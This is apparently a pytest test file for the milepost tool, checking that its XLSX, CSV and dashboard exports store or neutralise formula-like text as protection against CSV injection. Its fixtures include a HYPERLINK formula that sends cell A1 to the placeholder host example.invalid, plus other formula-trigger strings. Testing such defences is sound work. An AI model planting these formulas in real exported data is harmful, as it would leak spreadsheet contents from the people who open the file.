"""Text that a spreadsheet would run as a formula is written as text in every XLSX and neutralised in CSV.

The list of dangerous first characters (`=`, `+`, `-`, `@`, tab, carriage return) and the leading-quote remedy
for CSV are those of the OWASP "CSV Injection" page (common practice); a quote-prefixed text cell is how Excel
itself keeps typed text from being read as a formula.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import ClassVar

import duckdb
import openpyxl
import pandas as pd
import pytest
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest, app_test
from typer.testing import CliRunner

from milepost.validate import cells
from milepost.validate.cli import app
from milepost.validate.store.ingest import ingest

from builders import consistent_rows, write_csv
from conftest import BASIC_CONTRACT
from dashboard_fixtures import APP

runner = CliRunner()
HOSTILE_MODEL = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
HOSTILE_SCENARIO = "@SUM(1+1)"
OTHER = ["+1+2", "-1+2", "\t=1", "\r=1"]
HARMLESS = ["-5.2", "+3", "-1e-3", "plain", "a=b", ""]


def test_formula_like_follows_the_first_character() -> None:
    assert all(cells.formula_like(t) for t in [HOSTILE_MODEL, HOSTILE_SCENARIO, *OTHER])
    assert not any(cells.formula_like(t) for t in HARMLESS)
    assert cells.neutralise(HOSTILE_MODEL) == "'" + HOSTILE_MODEL
    assert cells.neutralise(-5.2) == -5.2 and cells.neutralise("-5.2") == "-5.2"


def test_the_sql_form_agrees_with_the_python_form() -> None:
    texts = [HOSTILE_MODEL, HOSTILE_SCENARIO, *OTHER, *HARMLESS]
    con = duckdb.connect()
    got = con.execute(
        f"SELECT {cells.neutralise_sql('t')} FROM unnest(?::VARCHAR[]) WITH ORDINALITY AS u(t, i) ORDER BY i",
        [texts],
    ).fetchall()
    assert [r[0] for r in got] == [cells.neutralise(t) for t in texts]


def test_a_frame_keeps_numbers_and_neutralises_text() -> None:
    frame = pd.DataFrame({"model": [HOSTILE_MODEL, "ok"], "value": [-5.0, 2.0], "year": [2030, 2040]})
    out = pd.read_csv(io.BytesIO(cells.csv_bytes(frame)))
    assert out["model"].tolist() == ["'" + HOSTILE_MODEL, "ok"]
    assert out["value"].tolist() == [-5.0, 2.0] and out["year"].tolist() == [2030, 2040]
    raw = pd.read_csv(io.BytesIO(cells.csv_bytes(frame, raw_text=True)))
    assert raw["model"].tolist() == [HOSTILE_MODEL, "ok"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, basic) -> tuple[Path, Path]:
    """A stored submission whose model and scenario names are formulas, and its data file."""
    folder = tmp_path_factory.mktemp("formula")
    rows = consistent_rows(basic, model=HOSTILE_MODEL, scenario=HOSTILE_SCENARIO)
    data = write_csv(folder / "f.csv", rows)
    db = folder / "f.duckdb"
    result = ingest([data], db, BASIC_CONTRACT)
    assert result.status == "accepted", result.reason
    return db, data


def _no_formulas(path: Path) -> None:
    """No cell of any sheet is a formula (`<f>` element), read from the XML itself."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def _strings(path: Path) -> set[str]:
    wb = openpyxl.load_workbook(path)
    found = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    assert c.data_type == "s", (ws.title, c.coordinate, c.value)
                    found.add(c.value)
    return found


def test_xlsx_exports_hold_the_names_as_text(tmp_path: Path, hostile) -> None:
    db, _ = hostile
    for what in ("data", "indicators"):
        out = tmp_path / f"{what}.xlsx"
        res = runner.invoke(app, ["export", "--db", str(db), "--what", what, "-f", "xlsx", "-o", str(out)])
        assert res.exit_code == 0, res.output
        _no_formulas(out)
        assert {HOSTILE_MODEL, HOSTILE_SCENARIO} <= _strings(out)  # exact text, no quote added
        ws = openpyxl.load_workbook(out)[what]
        assert ws["B2"].quotePrefix  # edited in a spreadsheet, it stays text
        numbers = [c.value for c in next(ws.iter_cols(min_col=8, max_col=8, min_row=2, max_row=5))]
        assert what != "data" or all(isinstance(v, float) for v in numbers)


def test_csv_exports_neutralise_unless_raw_text(tmp_path: Path, hostile) -> None:
    db, _ = hostile
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    args = ["export", "--db", str(db), "--what", "data", "-f", "csv"]
    assert runner.invoke(app, [*args, "-o", str(safe)]).exit_code == 0
    assert runner.invoke(app, [*args, "-o", str(raw), "--raw-text"]).exit_code == 0
    with safe.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert {r["model"] for r in rows} == {"'" + HOSTILE_MODEL}
    assert {r["scenario"] for r in rows} == {"'" + HOSTILE_SCENARIO}
    assert all(not cells.formula_like(v) for r in rows for v in r.values())
    assert any(float(r["value"]) > 0 for r in rows) and {r["year"] for r in rows} >= {"2020"}
    with raw.open(newline="", encoding="utf-8") as f:
        assert {r["model"] for r in csv.DictReader(f)} == {HOSTILE_MODEL}
    # the row order of the neutralised export is the export's own order
    plain = [(r["region"], r["variable"], r["year"]) for r in rows]
    assert plain == sorted(plain, key=lambda t: (t[0], t[1], int(t[2])))


def test_the_xlsx_report_and_its_copy_hold_formulas_as_text(tmp_path: Path, hostile) -> None:
    _, data = hostile
    out = tmp_path / "r.xlsx"
    res = runner.invoke(app, ["check", str(data), "-c", str(BASIC_CONTRACT), "-f", "xlsx", "-o", str(out)])
    assert res.exit_code == 0, res.output
    _no_formulas(out)
    assert HOSTILE_MODEL in _strings(out)
    copy = openpyxl.load_workbook(out)["copy 1"]
    assert copy["A2"].value == HOSTILE_MODEL and copy["A2"].quotePrefix


def test_harmonised_xlsx_holds_formulas_as_text(tmp_path: Path, hostile) -> None:
    _, data = hostile
    out = tmp_path / "h.xlsx"
    res = runner.invoke(app, ["harmonise", str(data), "-c", str(BASIC_CONTRACT), "--no-verify", "-o", str(out)])
    assert res.exit_code == 0, res.output
    _no_formulas(out)
    assert HOSTILE_MODEL in _strings(out)


class _KeptStorage(MemoryMediaFileStorage):
    """Streamlit's own in-memory media storage, kept reachable after an AppTest run so the test can read what a
    download button would send (AppTest drops its storage when the run ends)."""

    made: ClassVar[list[MemoryMediaFileStorage]] = []

    def __init__(self, endpoint: str) -> None:
        super().__init__(endpoint)
        self.made.append(self)


def _csv_download(at: AppTest, name: str) -> list[dict[str, str]]:
    button = next(b for b in at.get("download_button") if b.proto.id.endswith(f"-{name}_csv"))
    file_id = button.proto.url.rsplit("/", 1)[-1].split(".")[0]
    data = _KeptStorage.made[-1].get_file(file_id).content
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def test_the_dashboards_csv_downloads_neutralise_unless_the_sidebar_keeps_them_raw(hostile, monkeypatch) -> None:
    db, _ = hostile
    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", _KeptStorage)
    monkeypatch.setenv("MILEPOST_DB", str(db))
    at = AppTest.from_file(str(APP), default_timeout=60)
    at.run()
    at.switch_page("views/submissions.py").run()
    assert not at.exception, [e.message for e in at.exception]
    option = at.sidebar.toggle(key="csv_raw_text")
    assert option.value is False and "formula-like" in option.label
    assert {r["model"] for r in _csv_download(at, "subs_table")} == {"'" + HOSTILE_MODEL}
    option.set_value(True).run()
    assert not at.exception, [e.message for e in at.exception]
    assert {r["model"] for r in _csv_download(at, "subs_table")} == {HOSTILE_MODEL}
    at.switch_page("views/screen.py").run()  # the choice holds on the other pages
    assert at.sidebar.toggle(key="csv_raw_text").value is True


def test_a_frame_of_mixed_cells_is_neutralised_cell_by_cell() -> None:
    # object columns mixing text, numbers, None, NaN and bools; a pandas-3 text column with NaN; a repeated index
    mixed = [HOSTILE_MODEL, 5, None, float("nan"), "-5.2", "@x", True, 1.5, "\t=1", "a=b"]
    frame = pd.DataFrame(
        {
            "mixed": mixed,
            "text": pd.Series(["+1+2", None, "ok", "-1e-3", "=A1", None, "", "-x", "1", "@"], dtype="str"),
            "numbers_as_objects": pd.Series([1, 2.5, None, 3, 4, 5, 6, 7, 8, 9], dtype=object),
            "value": [float(i) for i in range(10)],
        }
    )
    frame.index = [0, 0, 1, 1, 2, 2, 3, 3, 4, 4]
    out = cells.neutralise_frame(frame)
    got = out["mixed"].tolist()
    assert got[:3] == ["'" + HOSTILE_MODEL, 5, None] and pd.isna(got[3])
    assert got[4:] == ["-5.2", "'@x", True, 1.5, "'\t=1", "a=b"]
    text = out["text"].tolist()
    assert [t if isinstance(t, str) else None for t in text] == [
        "'+1+2",
        None,
        "ok",
        "-1e-3",
        "'=A1",
        None,
        "",
        "'-x",
        "1",
        "'@",
    ]
    assert out["numbers_as_objects"].tolist() == frame["numbers_as_objects"].tolist()
    assert out["value"].tolist() == frame["value"].tolist() and out.index.tolist() == frame.index.tolist()
    # the same as the one-cell function on every cell
    for name in frame.columns:
        expected = [cells.neutralise(v) for v in frame[name]]
        assert [None if pd.isna(v) else v for v in out[name]] == [None if pd.isna(v) else v for v in expected]
    assert frame["mixed"].tolist()[0] == HOSTILE_MODEL  # the input is left as it was
    # a categorical text column (a dashboard frame may hold one) is neutralised too
    picked = cells.neutralise_frame(pd.DataFrame({"model": pd.Categorical(["=c", "d", "=c"])}))["model"]
    assert [v if isinstance(v, str) else None for v in picked] == ["'=c", "d", "'=c"]
